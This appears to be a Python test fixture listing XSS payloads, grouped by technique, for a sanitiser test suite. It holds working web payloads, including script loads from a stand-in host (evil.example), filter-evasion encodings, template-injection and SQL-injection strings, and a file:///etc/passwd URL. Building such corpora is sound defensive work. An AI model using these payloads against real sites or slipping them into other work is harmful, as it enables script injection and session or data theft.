"""XSS payload corpus run through every renderer by tests/test_xss.py.

Grouped by technique; each entry is a distinct string. Sources of inspiration: the OWASP XSS
filter evasion cheat sheet, html5sec.org vectors and mutation-XSS reports against sanitisers.
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script\n>alert(1)</script\n>",
    "<script/xss>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>eval('al'+'ert(1)')</script>",
    "<script>window['alert'](1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe onload=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<p onclick=alert(1) style=display:block>click</p>",
    "<a onmouseover=alert(1)>link</a>",
    "<b onpointerenter=alert(1)>x</b>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    '<img src=x onerror="javascript:alert(1)">',
    "<form><button formaction=javascript:alert(1)>go</button></form>",
]

JAVASCRIPT_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "\x00javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript\t:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript://example.com/%0Aalert(1)",
    "javascript:/*http://example.com*/alert(1)",
    "https:javascript:alert(1)",
    "javascript:alert(document.domain)//https://example.com",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    "<a href=javascript&colon;alert(1)>x</a>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
]

DATA_AND_VBSCRIPT_URLS = [
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    " data:text/html,<script>alert(1)</script>",
    "&#100;ata:text/html,<script>alert(1)</script>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(1)",
    '<a href="vbscript:msgbox(1)">x</a>',
    "livescript:alert(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName=href to="javascript:alert(1)">',
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"',
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>",
]

CSS = [
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<span style="behavior: url(x.htc)">x</span>',
    '<p style="-moz-binding:url(//evil.example/x.xml#xss)">x</p>',
    "#fff;background:url(javascript:alert(1))",
    "#abc\n;background:url(javascript:alert(1))",
    "red;}</style><script>alert(1)</script>",
    "expression(alert(1))",
    "url(javascript:alert(1))",
    '<link rel=stylesheet href="javascript:alert(1)">',
]

BROKEN_MARKUP = [
    "<img src=x onerror=alert(1)",
    "<img src='x' onerror='alert(1)'//",
    "<<img src=x onerror=alert(1)>>",
    "<a href='javascript:alert(1)",
    "<iframe src=javascript:alert(1) <",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="</p><img src=x onerror=alert(1)>">',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<table><td><img src=x onerror=alert(1)></td></table>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<embed src=javascript:alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

ATTRIBUTE_BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"><img src=x onerror=alert(1)>',
    "`><img src=x onerror=alert(1)>",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/' onerror='alert(1)",
    'https://example.com/x.png" onerror="alert(1)',
    '/files/a.pdf" onclick="alert(1)',
    'user@example.com"><script>alert(1)</script>',
    '+1 202 555 0143"><script>alert(1)</script>',
    "</span><script>alert(1)</script><span>",
    "</a><img src=x onerror=alert(1)>",
    "</details><img src=x onerror=alert(1)>",
]

TEMPLATE_AND_INJECTION = [
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    '{"a": "<script>alert(1)</script>"}',
    '{"<img src=x onerror=alert(1)>": ["javascript:alert(1)"]}',
    '[[[[[[["<script>alert(1)</script>"]]]]]]]',
    "' OR 1=1 --",
]

UNICODE_TRICKS = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1)",  # fullwidth
    "javascript\u200b:alert(1)",
    "\u202ejavascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "java\u0000script:alert(1)",
    "jav\u00e1script:alert(1)",
    "<img src=x onerror=\\u0061lert(1)>",
    "<scr\u0130pt>alert(1)</scr\u0130pt>",
    "\u2028<script>alert(1)</script>\u2029",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript%3Aalert(1)",
    "\ud7ff<img src=x onerror=alert(1)>",
]

PAYLOADS: tuple[str, ...] = tuple(
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + JAVASCRIPT_URLS
    + DATA_AND_VBSCRIPT_URLS
    + SVG_AND_MATHML
    + CSS
    + BROKEN_MARKUP
    + ATTRIBUTE_BREAKOUTS
    + TEMPLATE_AND_INJECTION
    + UNICODE_TRICKS
)
